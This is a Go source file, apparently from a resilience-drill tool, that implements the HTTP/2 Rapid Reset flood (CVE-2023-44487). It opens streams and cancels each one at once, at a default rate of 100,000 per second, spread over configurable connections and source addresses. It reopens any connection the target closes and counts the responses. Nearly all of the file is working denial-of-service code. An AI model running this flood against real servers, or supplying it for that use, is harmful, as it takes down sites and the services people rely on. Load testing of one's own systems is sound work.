package attack

import (
	"context"
	"net/netip"
	"sync"
	"time"

	"golang.org/x/net/http2"

	"kontor/drill/browser"
)

func init() { kinds["rapid-reset"] = newRapidReset }

// newRapidReset opens streams and cancels each in the same breath (Rapid Reset,
// CVE-2023-44487): 100,000 a second over one connection, or over as many as the
// scenario says. A stream is one offered; most have no outcome, since nobody
// waits for one. A connection that the site ends because of it counts as one
// refused, and is opened again.
func newRapidReset(p Params) (Attack, error) {
	sources, total, err := p.spread(usual{addresses: 1, rate: 100_000, networks: "many"})
	if err != nil {
		return nil, err
	}
	n := max(p.Connections, 1)
	each := total / float64(n)
	return &frameFlood{sources, n, func(ctx context.Context, t Target, from netip.Addr, _ uint64, c *Counter) error {
		return t.resets(ctx, or(p.Path, "/"), from, each, c)
	}}, nil
}

// frameFlood keeps connections busy, each with its own frames; use returns when
// its connection ends.
type frameFlood struct {
	sources     Sources
	connections int
	use         func(ctx context.Context, t Target, from netip.Addr, i uint64, c *Counter) error
}

func (f *frameFlood) Run(ctx context.Context, t Target, c *Counter) error {
	if t.TLS == nil {
		return errNoTwo
	}
	t = t.counted(c)
	var working sync.WaitGroup
	defer working.Wait()
	for i := range uint64(f.connections) {
		working.Go(func() {
			for ctx.Err() == nil {
				if err := f.use(ctx, t, f.sources.At(i), i, c); err != nil && !pause(ctx, reopen/10) {
					return
				}
			}
		})
	}
	return nil
}

// resets uses one connection.
func (t Target) resets(ctx context.Context, path string, from netip.Addr, rate float64, c *Counter) error {
	g, err := t.grip(ctx, from, both)
	if err != nil {
		return err
	}
	var listening sync.WaitGroup
	defer listening.Wait()
	defer g.Close()
	f, err := g.frames(greeting[1].Val)
	if err != nil {
		return err
	}
	r := t.page(browser.Desk, path, "", nil)
	first, err := f.headers(&r, 0)
	if err != nil {
		return err
	}
	if err := f.cancelled(1, first); err != nil {
		return err
	}
	c.Offer()
	block, err := f.headers(&r, 0) // all of it in the site's table now: the same bytes for ever
	if err != nil {
		return err
	}
	ended := make(chan struct{})
	listening.Go(func() {
		defer close(ended)
		if f.listen(func(_ uint32, o Outcome) { c.End(o) }, func(uint32) {}) {
			c.End(Refused)
		}
	})
	tick := time.NewTicker(beat)
	defer tick.Stop()
	start, sent := time.Now(), uint64(1)
	for id := uint32(3); id < 1<<30; {
		select {
		case <-ctx.Done():
			return nil
		case <-ended:
			return nil
		case <-tick.C:
		}
		due := uint64(time.Since(start).Seconds() * rate)
		if late := uint64(rate*mostLate.Seconds()/10) + 1; due > sent+late {
			c.Short(int64(due - sent - late))
			sent = due - late
		}
		n := 0
		for ; sent < due; sent++ {
			if err := f.cancelled(id, block); err != nil {
				return err
			}
			id, n = id+2, n+1
		}
		if n == 0 {
			continue
		}
		if err := f.send(); err != nil {
			return nil // the site closed: what it said is counted by the listener
		}
		for range n {
			c.Offer()
		}
	}
	return nil
}

// cancelled lays a request ready and its cancellation.
func (f *frames) cancelled(id uint32, block []byte) error {
	err := f.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: true})
	if err != nil {
		return err
	}
	return f.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}
